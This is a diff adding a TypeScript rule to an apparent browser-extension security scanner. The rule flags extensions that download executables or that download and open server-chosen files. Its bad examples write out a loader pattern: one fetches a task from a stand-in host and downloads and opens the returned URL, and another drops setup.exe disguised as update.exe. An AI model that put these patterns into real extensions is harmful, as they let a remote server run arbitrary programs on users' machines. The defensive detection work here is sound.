@@ -1,0 +1,39 @@
+import { callsOf, pattern, propertyOf } from '../../facts/javascript/query.ts';
+import { defineRule } from '../../rule.ts';
+import { backgroundExample, checkScripts } from './checkScripts.ts';
+import { isFromServer } from './network.ts';
+
+const PROGRAM = /\.(exe|msi|scr|bat|cmd|ps1|vbs|hta|jar|dmg|pkg|app|deb|rpm|sh|appimage|lnk|iso|apk)(\?|#|$)/i;
+
+export const opensDownloadedProgram = defineRule({
+  id: 'opens-downloaded-program',
+  title: 'A program is downloaded or opened by the extension',
+  severity: 'high',
+  confidence: 'medium',
+  category: 'code',
+  applies: 'extension',
+  cwe: 'CWE-494',
+  references: ['https://attack.mitre.org/techniques/T1105/'],
+  why: 'A program outside the browser has the whole machine. An extension that brings one with it leaves the limits that browsers set for extensions.',
+  remedy: 'Link to the page from which people can download the program themselves.',
+  check: checkScripts(function* ({ script, hit }) {
+    const opens = callsOf(script, 'chrome.downloads.open', 'chrome.downloads.acceptDanger');
+    for (const call of callsOf(script, 'chrome.downloads.download')) {
+      const address = propertyOf(script, call.args[0] ?? 0, 'url');
+      const to = pattern(script, address);
+      const name = pattern(script, propertyOf(script, call.args[0] ?? 0, 'filename'));
+      if (PROGRAM.test(to) || PROGRAM.test(name)) yield hit(call.value, opens.length > 0 ? { severity: 'critical', message: 'It is opened when it is there.' } : {});
+      else if (isFromServer(script, address) && opens.length > 0) yield hit(call.value, { severity: 'critical', message: 'A server decides what is downloaded, and it is opened.' });
+    }
+  }),
+  examples: {
+    bad: [
+      backgroundExample('chrome.downloads.download({ url: "https://x.example/setup.exe", filename: "update.exe" });'),
+      backgroundExample('fetch("https://x.example/task").then((r) => r.json()).then((t) => chrome.downloads.download({ url: t.url }, (id) => chrome.downloads.open(id)));'),
+    ],
+    good: [
+      backgroundExample('chrome.downloads.download({ url: canvas.toDataURL(), filename: "shot.png" });'),
+      backgroundExample('chrome.downloads.onChanged.addListener((d) => { if (d.state) show(d.id); }); button.onclick = () => chrome.downloads.open(id);'),
+    ],
+  },
+});
